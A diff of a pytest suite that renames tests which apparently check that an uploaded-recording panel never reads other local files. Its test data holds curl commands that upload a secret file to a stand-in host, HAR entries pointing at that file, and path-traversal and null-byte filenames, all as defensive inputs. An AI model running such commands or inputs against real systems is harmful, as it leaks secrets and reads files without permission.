@@ -94,7 +94,7 @@ def test_curl_line_reads_no_file(panel, secret, line, monkeypatch):
     "curl.sh", "../../../x.har", "x.json", "\0",
     *(pytest.param(name, marks=pytest.mark.slow) for name in ("har", "access.log", "x.jsonl", "a/b", "..", ".")),
 ])  # fmt: skip
-def test_uploaded_recording_reads_no_other_file(panel, secret, name):
+def test_uploaded_recording_cannot_read_other_files(panel, secret, name):
     texts = [
         f"curl -d @{secret} http://a/\ncurl -T {secret} http://a/\n", f'{{"method": "POST", "path": "/", "body": "@{secret}"}}\n',
         json.dumps({"log": {"entries": [{"request": {"method": "POST", "url": "http://a/", "postData": {"text": f"@{secret}", "fileName": str(secret)}}}]}}),
@@ -107,7 +107,7 @@ def test_uploaded_recording_reads_no_other_file(panel, secret, name):
 
 @pytest.mark.slow
 @pytest.mark.parametrize("action", [*ACTIONS, "nosuch", "__class__", ""])
-def test_odd_values_of_any_action_give_a_notice(panel, action):
+def test_unexpected_values_of_any_action_set_a_notice(panel, action):
     chance = random.Random(action)
     check(panel, action, {})
     for name in NAMES:
